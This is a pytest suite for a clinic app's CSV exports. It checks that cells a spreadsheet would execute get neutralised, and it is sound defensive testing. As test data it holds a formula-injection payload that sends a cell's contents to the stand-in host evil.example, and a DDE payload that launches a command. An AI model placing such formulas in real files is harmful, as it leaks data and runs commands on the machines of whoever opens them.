"""CSV formula injection: every export goes through the one writer (interop/csv_writer.py), which
neutralises cells a spreadsheet would run, keeps negative numbers numeric, and our importer reads
its own exports back unchanged."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from needlepoint.clinic.clients.models import Client
from needlepoint.clinic.outcomes.services import open_adverse_event
from needlepoint.interop import csv_writer
from needlepoint.interop.csv_common import unsafe_cell
from needlepoint.interop.csv_import import import_clients
from needlepoint.interop.csv_writer import safe_cell
from tests.clinic.outcomes.helpers import day, session
from tests.conftest import ClinicWorld

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your results")'
SRC = Path(__file__).resolve().parents[2] / "src" / "needlepoint"
WRITER = SRC / "interop" / "csv_writer.py"


def _direct_csv_writers(path: Path) -> list[str]:
    """`csv.writer(...)`, `csv.DictWriter(...)` or `from csv import writer/DictWriter` in a module."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"{path.relative_to(SRC)}:{node.lineno} csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"{path.relative_to(SRC)}:{node.lineno} from csv import {a.name}"
                for a in node.names
                if a.name in ("writer", "DictWriter", "*")
            ]
    return found


def test_no_module_writes_csv_except_through_the_one_writer() -> None:
    offenders = [
        hit for path in sorted(SRC.rglob("*.py")) if path != WRITER for hit in _direct_csv_writers(path)
    ]
    assert offenders == [], "write CSV through needlepoint.interop.csv_writer, not csv directly"
    assert _direct_csv_writers(WRITER)  # the scan itself still sees a direct use


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1-800-CALL", "'+1-800-CALL"),
        ("-Smith", "'-Smith"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("'quoted", "''quoted"),
        ("Smith-Jones", "Smith-Jones"),
        ("-3", "-3"),  # a negative number stays a number
        ("-0.1250", "-0.1250"),
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, ""),
        (True, "True"),
    ],
)
def test_cells_are_neutralised_and_numbers_stay_numbers(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


@given(st.text(max_size=20))
def test_every_text_round_trips_through_the_importers_unescape(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(csv_writer.FORMULA_START) or csv_writer._NEGATIVE_NUMBER.fullmatch(cell)
    assert unsafe_cell(cell) == value


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_adverse_event_export_neutralises_the_clients_words(client: Any, clinic_a: ClinicWorld) -> None:
    open_adverse_event(
        clinic_a.clinic,  # type: ignore[arg-type]
        actor=clinic_a.memberships["practitioner"],  # type: ignore[arg-type]
        client=clinic_a.client,  # type: ignore[arg-type]
        source="staff",
        type="other",
        description=ATTACK,
        treatment_given="-cold compress",
        area="cheeks.left",  # an area is a protocol code now, refused otherwise (tests/clinic/outcomes)
    )
    client.force_login(clinic_a.users["owner"])
    (row,) = _rows(client.get(reverse("adverse-events-export")).content)
    assert row["description"] == "'" + ATTACK
    assert row["treatment_given"] == "'-cold compress" and row["area"] == "cheeks.left"


def test_analytics_export_neutralises_names_and_keeps_numbers(client: Any, clinic_a: ClinicWorld) -> None:
    practitioner: Any = clinic_a.memberships["practitioner"]
    practitioner.display_name = ATTACK
    practitioner.save()
    session(clinic_a, day(10))
    client.force_login(clinic_a.users["owner"])
    content = client.get(reverse("analytics-export") + "?by=practitioner").content
    (row,) = _rows(content)
    assert row["group"] == "'" + ATTACK and row["sessions_done"] == "1"


def test_client_export_neutralises_and_our_importer_reads_it_back(
    client: Any, clinic_a: ClinicWorld, clinic_b: ClinicWorld
) -> None:
    c: Any = clinic_a.client
    c.first_name, c.last_name, c.phone = ATTACK, "-Smith", "+44 7700 900123"
    c.save()
    client.force_login(clinic_a.users["owner"])
    response = client.get(reverse("interop-csv", kwargs={"kind": "clients"}))
    text = b"".join(response.streaming_content).decode()
    (row,) = _rows(text.encode())
    assert row["first_name"] == "'" + ATTACK and row["last_name"] == "'-Smith"
    assert row["phone"] == "'+44 7700 900123"
    import_clients(clinic_b.clinic, io.StringIO(text))  # type: ignore[arg-type]
    back = Client.objects.get(clinic=clinic_b.clinic, email=c.email)  # type: ignore[misc]
    # the phone comes back in E.164
    assert (back.first_name, back.last_name, back.phone) == (ATTACK, "-Smith", "+447700900123")


def test_appointment_export_neutralises_names(client: Any, clinic_a: ClinicWorld) -> None:
    c: Any = clinic_a.client
    c.first_name = ATTACK
    c.save()
    session(clinic_a, day(10))
    client.force_login(clinic_a.users["owner"])
    text = b"".join(client.get(reverse("interop-csv", kwargs={"kind": "appointments"})).streaming_content)
    (row,) = _rows(text)
    assert row["client_first_name"] == "'" + ATTACK
